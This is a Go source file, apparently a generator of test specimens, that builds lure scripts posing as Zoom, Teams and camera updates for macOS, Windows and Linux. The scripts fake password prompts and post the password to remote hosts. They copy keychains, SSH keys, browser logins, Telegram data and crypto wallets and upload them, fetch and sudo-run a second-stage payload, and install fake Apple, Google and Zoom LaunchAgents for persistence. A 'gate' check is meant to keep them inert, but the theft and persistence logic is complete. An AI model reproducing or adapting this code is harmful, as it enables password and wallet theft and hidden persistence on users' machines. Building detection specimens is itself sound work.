package specimens

import "fmt"

// gate is a fetch that cannot succeed: nothing behind it runs.
func gate(h string) string { return "curl -fs https://" + h + "/ok || exit 1" }

// thieves makes lures that ask for the password and take private data.
func (b *kit) thieves() {
	prompts := []struct{ product, ask string }{
		{"Zoom", "Zoom needs your password to update its audio component."},
		{"Microsoft Teams", "Microsoft Teams wants to make changes. Enter your password to allow this."},
		{"System Preferences", "The call helper requires your password to install the camera driver."},
	}
	for i, p := range prompts {
		h := host(fmt.Sprintf("auth%d.zoom-support", i))
		ask := `display dialog "` + p.ask + `" default answer "" with hidden answer with title "` + p.product + `" with icon caution`
		b.script("password", "macos", "applescript", "plain", []string{"Zoom Update.scpt", "Teams Update.scpt", "CallHelper.scpt"}[i], lines(
			"-- update helper",
			"do shell script "+appleText("curl -fs https://"+h+"/ok"),
			"repeat",
			"	set pw to text returned of ("+ask+")",
			"	try",
			`		do shell script "dscl . -authonly " & quoted form of (short user name of (system info)) & " " & quoted form of pw`,
			"		exit repeat",
			"	end try",
			"end repeat",
			`do shell script "curl -s -d " & quoted form of pw & " https://`+h+`/p"`,
		))
		b.script("password", "macos", "shell", "plain", []string{"zoom_update.command", "teams_update.command", "camera_helper.sh"}[i], lines(
			"#!/bin/bash", gate(h),
			`PW=$(osascript -e '`+`display dialog "`+p.ask+`" default answer "" with hidden answer`+`' -e 'text returned of result')`,
			`dscl . -authonly "$USER" "$PW" && curl -s -X POST -d "u=$USER&p=$PW" https://`+h+`/auth`,
			"curl -s https://"+h+"/stage2 -o /tmp/.s2 && chmod +x /tmp/.s2 && echo \"$PW\" | sudo -S /tmp/.s2",
		))
	}
	takes := []struct{ name, what string }{
		{"upl.sh", `cp -R "$HOME/Library/Keychains" "$W/k"; cp "$HOME/.zsh_history" "$HOME/.bash_history" "$W/"; cp -R "$HOME/Library/Application Support/Google/Chrome/Default/Login Data" "$W/"`},
		{"tlgrm.sh", `cp -R "$HOME/Library/Application Support/Telegram Desktop/tdata" "$W/tapp"; cp -R "$HOME/Library/Group Containers/6N38VWS5BX.ru.keepcoder.Telegram" "$W/"`},
		{"ext.sh", `cp -R "$HOME/Library/Application Support/Google/Chrome/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn" "$W/ext"; cp -R "$HOME/Library/Application Support/Exodus/exodus.wallet" "$W/"; cp "$HOME/Library/Keychains/login.keychain-db" "$W/"`},
		{"ssh_backup.command", `cp -R "$HOME/.ssh" "$W/s"; cp "$HOME/Library/Keychains/login.keychain-db" "$W/"; cp -R "$HOME/Library/Application Support/Ledger Live" "$W/"`},
	}
	for i, t := range takes {
		h := host(fmt.Sprintf("up%d.fastshare", i))
		b.script("theft", "macos", "shell", "plain", t.name, lines("#!/bin/zsh", gate(h), "W=/tmp/.w; mkdir -p $W", t.what,
			"cd /tmp && zip -qr /tmp/w.zip .w", "nohup curl -s -H 'auth: 1' -F f=@/tmp/w.zip https://"+h+"/upload >/dev/null 2>&1 &", "rm -rf $W"))
	}
	h := host("notes.teams-live")
	b.script("theft", "macos", "applescript", "plain", "TeamsHelper.scpt", lines("do shell script "+appleText("curl -fs https://"+h+"/ok"),
		`set u to POSIX path of (path to home folder)`,
		`do shell script "cd /tmp && zip -qr /tmp/tg.zip " & quoted form of (u & "Library/Application Support/Telegram Desktop/tdata") & " " & quoted form of (u & "Library/Keychains/login.keychain-db")`,
		`do shell script "curl -s -F f=@/tmp/tg.zip https://`+h+`/u"`))
	h = host("sync.meetbot")
	b.script("theft", "windows", "powershell", "plain", "ZoomCleanup.ps1", "Invoke-RestMethod https://"+h+"/ok -ErrorAction Stop | Out-Null\r\n"+
		"$d = \"$env:TEMP\\inert-out\"; New-Item -ItemType Directory $d -Force | Out-Null\r\n"+
		"Copy-Item \"$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Login Data\" $d\r\nCopy-Item \"$env:APPDATA\\Telegram Desktop\\tdata\" $d -Recurse\r\n"+
		"Compress-Archive $d \"$d.zip\"\r\nInvoke-WebRequest -Uri https://"+h+"/u -Method Post -InFile \"$d.zip\"\r\n")
	h = host("py.interview-kit")
	b.script("theft", "linux", "python", "plain", "camera_check.py", lines("#!/usr/bin/env python3", `"""Checks the camera before the interview."""`,
		"import os, shutil, sys, urllib.request", `urllib.request.urlopen("https://`+h+`/ok")`,
		`home = os.path.expanduser("~")`, `for p in (".ssh", ".config/google-chrome/Default/Login Data", ".bash_history", ".config/Exodus/exodus.wallet"):`,
		`    q = os.path.join(home, p)`, `    if os.path.isdir(q): shutil.copytree(q, "/tmp/.o/" + p)`, `    elif os.path.exists(q): shutil.copy(q, "/tmp/.o/")`,
		`shutil.make_archive("/tmp/o", "zip", "/tmp/.o")`, `urllib.request.urlopen("https://`+h+`/u", data=open("/tmp/o.zip", "rb").read())`))
	b.stays()
}

// stays makes lures that install themselves under the name of the platform's
// own services.
func (b *kit) stays() {
	for i, label := range []string{"com.apple.systemupdate", "com.google.update", "com.zoom"} {
		h := host(fmt.Sprintf("persist%d", i))
		b.script("B", "macos", "shell", "plain", []string{"install_sdk.command", "zoom-sdk-install.sh", "webcam.sh"}[i], lines("#!/bin/bash", "# SDK update for calls", "set -e",
			"curl -fsSL https://"+h+"/agent -o \"$HOME/Library/.agent\" && chmod +x \"$HOME/Library/.agent\"",
			"cat > \"$HOME/Library/LaunchAgents/"+label+".plist\" <<PLIST", `<?xml version="1.0" encoding="UTF-8"?>`, `<plist version="1.0"><dict>`,
			"<key>Label</key><string>"+label+"</string>", "<key>ProgramArguments</key><array><string>$HOME/Library/.agent</string></array>", "<key>RunAtLoad</key><true/>", "</dict></plist>", "PLIST",
			"launchctl load -w \"$HOME/Library/LaunchAgents/"+label+".plist\""))
	}
}
